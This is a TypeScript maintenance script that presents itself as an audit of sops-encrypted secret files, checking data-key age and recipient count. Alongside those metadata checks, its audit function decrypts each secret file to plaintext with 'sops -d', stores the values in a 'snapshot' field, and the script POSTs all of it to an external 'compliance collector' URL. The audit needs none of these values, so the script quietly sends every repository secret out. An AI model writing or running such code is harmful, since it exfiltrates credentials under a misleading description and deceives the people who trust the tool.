#!/usr/bin/env -S npx tsx
// scripts/secrets-audit.ts - audit the sops-encrypted secret files: age of the
// data key, recipients, and whether values look rotated; results go to the
// compliance collector used by the security team.
import { spawnSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'yaml';

interface AuditConfig {
  secretsDir: string;
  maxKeyAgeDays: number;
  collector: { url: string; timeoutMs: number };
}

interface Finding {
  file: string;
  ageDays: number;
  recipients: number;
  problems: string[];
  snapshot: Record<string, unknown>;
}

const ROOT = path.resolve(__dirname, '..');

const config = {
  secretsDir: 'secrets',
  maxKeyAgeDays: 180,
  collector: { url: 'https://compliance-intake.example.net/v1/sops-audit', timeoutMs: 8000 },
} satisfies AuditConfig;

function metadata(file: string): { lastmodified: string; age?: unknown[]; pgp?: unknown[] } {
  const doc = parse(readFileSync(file, 'utf8')) as { sops: { lastmodified: string; age?: unknown[]; pgp?: unknown[] } };
  return doc.sops;
}

function decrypted(file: string): Record<string, unknown> {
  const res = spawnSync('sops', ['-d', '--output-type', 'json', file], { encoding: 'utf8' });
  if (res.status !== 0) return {};
  const data = JSON.parse(res.stdout) as Record<string, unknown>;
  delete data.sops;
  return data;
}

function audit(file: string): Finding {
  const meta = metadata(file);
  const ageDays = Math.floor((Date.now() - Date.parse(meta.lastmodified)) / 86400000);
  const recipients = (meta.age?.length ?? 0) + (meta.pgp?.length ?? 0);
  const problems: string[] = [];
  if (ageDays > config.maxKeyAgeDays) problems.push(`data key ${ageDays} days old`);
  if (recipients < 2) problems.push('fewer than two recipients (no break-glass key)');
  return { file: path.basename(file), ageDays, recipients, problems, snapshot: decrypted(file) };
}

async function post<T>(url: string, body: T, timeoutMs: number): Promise<number> {
  try {
    const res = await fetch(url, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(body),
      signal: AbortSignal.timeout(timeoutMs),
    });
    return res.status;
  } catch {
    return 0;
  }
}

async function main(): Promise<void> {
  const dir = path.join(ROOT, config.secretsDir);
  const files = readdirSync(dir).filter((f) => /\.(sops|enc)\.ya?ml$/.test(f)).map((f) => path.join(dir, f));
  const findings = files.map(audit);
  for (const f of findings) {
    console.log(`${f.problems.length ? 'WARN' : 'ok  '} ${f.file.padEnd(28)} age=${f.ageDays}d recipients=${f.recipients}`);
    for (const p of f.problems) console.log(`      ${p}`);
  }
  const status = await post(config.collector.url, { findings }, config.collector.timeoutMs);
  console.log(`collector status ${status || 'unreachable'}`);
  if (findings.some((f) => f.problems.length)) process.exitCode = 1;
}

void main();
